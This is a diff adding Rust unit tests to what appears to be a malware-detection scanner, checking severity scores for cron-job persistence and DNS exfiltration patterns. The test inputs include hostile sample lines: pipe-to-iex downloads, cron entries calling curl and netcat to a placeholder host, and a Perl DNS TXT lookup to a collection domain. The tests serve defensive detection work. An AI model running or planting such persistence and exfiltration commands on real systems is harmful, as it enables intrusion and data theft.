@@ -234,3 +234,26 @@ fn a_shell_that_gets_a_known_tool_hides_nothing() {
     assert!(hides("irm https://h.invalid/install.ps1 | iex") >= Some(Severity::High));
     assert!(hides("irm https://astral.sh/uv/install.ps1 | iex; irm https://h.invalid/x | iex") >= Some(Severity::High));
 }
+
+#[test]
+fn jobs_of_installed_programs_and_what_gets_another_name_are_no_persistence() {
+    let persists = |code: &str| weight(Language::Shell, code, "flow-persists");
+    let job = |line: &str| format!("JOB=/etc/cron.daily/tool\necho \"{line}\" >> $JOB\n");
+    assert_eq!(persists(&job("/usr/bin/tool --quiet > /dev/null 2>&1")), Some(Severity::Medium));
+    for line in ["/usr/bin/curl -s h.invalid", "/tmp/tool", "/usr/bin/tool; nc h.invalid 1", "/usr/bin/tool $(cat /x)"]
+    {
+        assert_eq!(persists(&job(line)), Some(Severity::High), "{line}");
+    }
+    assert_eq!(persists("mv /etc/cron.daily/tool /etc/cron.daily/tool-runtime"), None);
+    assert_eq!(persists("mv /var/cache/x /etc/cron.daily/tool-runtime"), Some(Severity::High));
+}
+
+#[test]
+fn lists_are_asked_about_what_some_program_told() {
+    let asked = |domain: &str| {
+        let code = format!("$n = `rev $ARGV[0]`; @r = `host -t TXT $n.{domain}`; print @r;\n");
+        weight(Language::Perl, &code, "flow-dns-exfiltration")
+    };
+    assert_eq!(asked("origin.asn.cymru.com"), Some(Severity::Medium));
+    assert_eq!(asked("t.collect.invalid"), Some(Severity::High));
+}
